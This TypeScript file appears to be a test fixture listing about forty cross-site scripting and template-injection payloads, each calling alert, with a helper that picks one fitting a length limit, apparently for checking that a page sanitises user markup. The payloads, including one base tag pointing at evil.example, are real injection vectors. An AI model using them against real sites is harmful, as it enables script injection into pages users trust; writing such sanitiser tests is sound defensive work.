/**
 * Texts that a page which takes text for markup would run or load something from. Each fits a key (50 characters), is without
 * blanks at its ends, and calls `alert`, so that a test hears of it.
 */
export const markup: readonly string[] = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '<svg/onload=alert(3)>', '"><script>alert(4)</script>', `'"><img src=x onerror=alert(5)>`,
  '</script><script>alert(6)</script>', '</title><svg onload=alert(7)>', '</textarea><img src=x onerror=alert(8)>', '<iframe src=javascript:alert(9)>',
  '<a href=javascript:alert(10)>x</a>', 'javascript:alert(11)', 'JaVaScRiPt:alert(12)//', 'data:text/html,<script>alert(13)</script>',
  '<details open ontoggle=alert(14)>', '<input autofocus onfocus=alert(15)>', '<math><mtext><img src=x onerror=alert(16)>', '<object data=javascript:alert(17)>',
  '<embed src=javascript:alert(18)>', "<style>@import'/evil-alert(19)'</style>", '<link rel=stylesheet href=/evil-alert(20)>',
  '<meta http-equiv=refresh content=0;url=/alert(21)>', '<base href=//evil.example/alert(22)/>', '<form action=/evil><button>alert(23)',
  '" onmouseover=alert(24) x="', "' onfocus=alert(25) autofocus='", '`onload=alert(26)`', "{{constructor.constructor('alert(27)')()}}",
  '${alert(28)}', '<%= alert(29) %>', String.raw`\u003cscript\u003ealert(30)\u003c/script\u003e`, '&lt;script&gt;alert(31)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(32)&#62;', '%3Cscript%3Ealert(33)%3C%2Fscript%3E', '<!--><img src=x onerror=alert(34)>-->', ']]><script>alert(35)</script>',
  '<svg><animate onbegin=alert(36) attributeName=x>', '<body onload=alert(37)>', '<video><source onerror=alert(38)>', '<x14 tabindex=1 onfocus=alert(39)>',
  '<b>alert(40)</b>', "'-alert(41)-'", '<a ping=alert()>', '"><u>alert(43)', 'x\u2028alert(44)//',
]

/** The `n`-th of those that a text of so many characters can hold. */
export function markupFor(n: number, maxLength: number): string {
  const wanted = markup[n % markup.length]!
  if ([...wanted].length <= maxLength) return wanted
  const short = markup.filter((text) => [...text].length <= maxLength)
  return short[n % short.length]!
}
